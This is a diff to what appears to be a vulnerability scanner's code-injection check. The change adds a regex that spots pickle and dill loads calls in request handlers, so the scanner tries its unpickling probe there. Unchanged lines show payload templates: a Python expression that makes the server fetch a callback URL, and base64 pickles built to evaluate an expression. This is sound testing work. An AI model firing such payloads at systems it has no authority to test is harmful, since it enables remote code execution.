@@ -55,6 +55,9 @@ PYTHON_FETCH = ("(__import__('urllib.request',fromlist=['urlopen']) if __import_
                 "else __import__('urllib2')).urlopen('{url}'+str({a}*{b}),timeout=3).close()")
 
 
+UNPICKLES_HERE = re.compile(r"\b(?:c?[Pp]ickle|dill)\.loads?\(")
+
+
 def pickled(expression: str) -> str:
     """The pickle that evaluates `expression`, base64-encoded so that standard and URL-safe
     decoders alike read it: trailing spaces are added to the expression until the encoding holds
@@ -117,7 +120,10 @@ class CodeInjection(PointCheck):
             ex = sender.send(point, NODE_SERIALIZE.format(a=a, b=b))
             if fresh(ex, str(a * b), base):
                 return self._confirmed(ex, point, "node-serialize", a * b)
-        if point.route.language == "python" and ctx.unpickles and (profile is None or profile.influenced) and \
+        # (a handler the code shows unpickling: every plain value fails to unpickle alike, so the
+        # canary changed nothing there)
+        if point.route.language == "python" and ctx.unpickles and \
+                (profile is None or profile.influenced or UNPICKLES_HERE.search(handler_text(ctx.project, point.route))) and \
                 (found := self._unpickled(sender, ctx, point, base)) is not None:
             return found
         decoded_into_code = bool(point.param.decoded) and bool(EVALUATES.search(handler_text(ctx.project, point.route)))
